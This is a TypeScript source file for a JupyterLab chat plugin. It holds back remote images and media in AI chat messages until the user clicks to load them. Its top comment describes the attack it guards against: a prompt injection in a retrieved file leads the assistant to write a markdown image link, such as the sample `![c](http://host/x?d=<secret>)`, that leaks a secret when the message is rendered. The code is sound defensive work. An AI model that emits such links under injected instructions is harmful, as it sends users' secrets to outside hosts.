import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';

/**
 * Remote media in rendered messages is held until the user asks for it: an
 * answer saying `![c](http://host/x?d=<secret>)` would otherwise make the
 * browser send that request as soon as the chat opens (a prompt injection in a
 * retrieved file can write such an answer). Same-origin and relative URLs
 * (files this server stores) and `data:`/`blob:` URLs load as before.
 */

/** Attributes through which an element fetches a URL as soon as it exists. */
const FETCHING_ATTRIBUTES = ['src', 'srcset', 'poster', 'background', 'data'];
const CSS_URL = /url\s*\(\s*(['"]?)(.*?)\1\s*\)/gi;

/** The host of `url` when loading it would leave `origin`; `null` otherwise. */
export function remoteHost(url: string, origin: string): string | null {
  // eslint-disable-next-line no-control-regex
  const cleaned = url.replace(/[\u0000-\u0020\u007f]+/g, '');
  if (!/^([a-z][a-z0-9+.-]*:|\/\/|\\\\)/i.test(cleaned)) {
    return null; // relative: resolved against this server
  }
  if (/^(data|blob):/i.test(cleaned)) {
    return null;
  }
  let parsed: URL;
  try {
    parsed = new URL(cleaned.replace(/^\\\\/, '//'), origin);
  } catch {
    return 'an unknown site';
  }
  return parsed.origin === origin ? null : parsed.host || 'an unknown site';
}

/** The remote hosts of a `srcset` value (a comma-separated list of `url size`). */
function srcsetHost(value: string, origin: string): string | null {
  for (const candidate of value.split(',')) {
    const host = remoteHost(candidate.trim().split(/\s+/)[0] ?? '', origin);
    if (host) {
      return host;
    }
  }
  return null;
}

/** The first remote host named by `url(...)` in a style attribute. */
export function cssRemoteHost(style: string, origin: string): string | null {
  for (const match of style.matchAll(CSS_URL)) {
    const host = remoteHost(match[2] ?? '', origin);
    if (host) {
      return host;
    }
  }
  return null;
}

/** A button standing in for a remote image; a click loads it. */
function placeholder(
  doc: Document,
  image: HTMLImageElement,
  host: string
): HTMLElement {
  const button = doc.createElement('button');
  button.type = 'button';
  button.className = 'jp-OuiButton jp-OuiRemoteImage';
  button.dataset.ouiSrc = image.getAttribute('src') ?? '';
  button.dataset.ouiAlt = image.getAttribute('alt') ?? '';
  const alt = image.getAttribute('alt');
  button.textContent = `Load image from ${host}${alt ? `: ${alt}` : ''}`;
  button.title = `This image is on ${host}; it is loaded only when you click.`;
  return button;
}

/**
 * The sanitized HTML of a message with every remote fetch held: remote
 * images become a "Load image from host" button, other remote media lose
 * their URL, and styles that load a remote URL are dropped. Parsed in an
 * inert template, so nothing is fetched while this runs.
 */
export function holdRemoteMedia(sanitized: string, origin: string): string {
  if (!/(src|poster|background|data|url)/i.test(sanitized)) {
    return sanitized;
  }
  const template = document.createElement('template');
  template.innerHTML = sanitized;
  const doc = template.content.ownerDocument;
  let changed = false;
  for (const element of Array.from(template.content.querySelectorAll('*'))) {
    for (const name of FETCHING_ATTRIBUTES) {
      const value = element.getAttribute(name);
      if (value === null) {
        continue;
      }
      const host =
        name === 'srcset'
          ? srcsetHost(value, origin)
          : remoteHost(value, origin);
      if (!host) {
        continue;
      }
      changed = true;
      if (element instanceof HTMLImageElement && name === 'src') {
        element.replaceWith(placeholder(doc, element, host));
        break;
      }
      element.removeAttribute(name);
      element.setAttribute('data-oui-held', host);
    }
    const style = element.getAttribute('style');
    if (style && cssRemoteHost(style, origin)) {
      element.removeAttribute('style');
      changed = true;
    }
  }
  return changed ? template.innerHTML : sanitized;
}

/** Load the image a placeholder stands for (the user clicked it). */
export function loadHeldImage(button: HTMLElement): void {
  const image = document.createElement('img');
  image.alt = button.dataset.ouiAlt ?? '';
  image.src = button.dataset.ouiSrc ?? '';
  button.replaceWith(image);
}

/** A sanitizer that sanitizes as `inner` does, then holds remote media. */
export class RemoteMediaSanitizer implements IRenderMime.ISanitizer {
  constructor(
    private readonly _inner: IRenderMime.ISanitizer,
    private readonly _origin: string = window.location.origin
  ) {}

  get allowNamedProperties(): boolean | undefined {
    return this._inner.allowNamedProperties;
  }

  get allowCommandLinker(): boolean | undefined {
    return this._inner.allowCommandLinker;
  }

  getAutolink(): boolean {
    return this._inner.getAutolink?.() ?? true;
  }

  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return holdRemoteMedia(this._inner.sanitize(dirty, options), this._origin);
  }
}
